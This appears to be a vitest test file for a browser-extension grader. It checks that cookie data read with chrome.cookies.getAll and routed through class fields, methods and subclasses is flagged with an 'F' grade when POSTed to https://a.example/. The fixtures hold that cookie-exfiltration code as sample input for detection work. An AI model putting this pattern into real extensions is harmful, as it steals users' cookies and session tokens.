import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What an object holds, where its class stands in another file, under another name or above another class. Each: the file
 * that is imported, and what is done with it, `v` being the cookies that are read.
 */
const POST = "fetch('https://a.example/', { method: 'POST', body: JSON.stringify(sent) });";
const KINDS: readonly (readonly [name: string, other: string, own: string, sent: string])[] = [
  ['of a constructor', 'export class A { constructor(x) { this.x = x; } }', 'const a = new A(v);', 'a.x'],
  ['of a method', 'export class A { put(x) { this.x = x; } }', 'const a = new A(); a.put(v);', 'a.x'],
  ['the whole object', 'export class A { constructor(x) { this.x = x; } }', 'const a = new A(v);', 'a'],
  ['of a list in it', 'export class A { l = []; add(x) { this.l.push(x); } }', 'const a = new A(); a.add(v);', 'a.l'],
  ['put in from outside', 'export class A { get() { return this.x; } }', 'const a = new A(); a.x = v;', 'a.get()'],
  [
    'of the class above',
    'export class A { put(x) { this.x = x; } }',
    'class B extends A { get() { return this.x; } } const a = new B(); a.put(v);',
    'a.get()',
  ],
  [
    'of the class below',
    'export class A { get() { return this.x; } }',
    'class B extends A { put(x) { this.x = x; } } const a = new B(); a.put(v);',
    'a.get()',
  ],
  [
    'of a class in an object',
    'export class A {}',
    'const o = { B: class { constructor(x) { this.x = x; } } }; const a = new o.B(v);',
    'a.x',
  ],
];

const background = (own: string, sent: string): string =>
  `import { A } from './a.js'; chrome.cookies.getAll({}, (v) => { ${own} const sent = ${sent}; ${POST} });`;
const gradeOf = (other: string, own: string, sent: string): Promise<string> =>
  graded({
    background: background(own, sent),
    manifest: { background: { service_worker: 'background.js', type: 'module' } },
    files: { 'a.js': other },
  });

it.each(KINDS)('finds data in an object: %s', async (_, other, own, sent) => {
  expect(await gradeOf(other, own, sent)).toBe('F');
});

it('tells objects of two classes apart', async () => {
  const other = 'export class A { put(x) { this.x = x; } }; export class B { put(x) { this.x = x; } }';
  expect(await gradeOf(other, 'const a = new A(); a.put(v); const b = {}; b.x = 1;', 'b.x')).not.toBe('F');
  expect(
    await gradeOf(
      'export class A { put(x) { this.x = x; } }',
      'class B { x = 1; } const a = new A(); a.put(v); const b = new B();',
      'b.x',
    ),
  ).not.toBe('F');
});
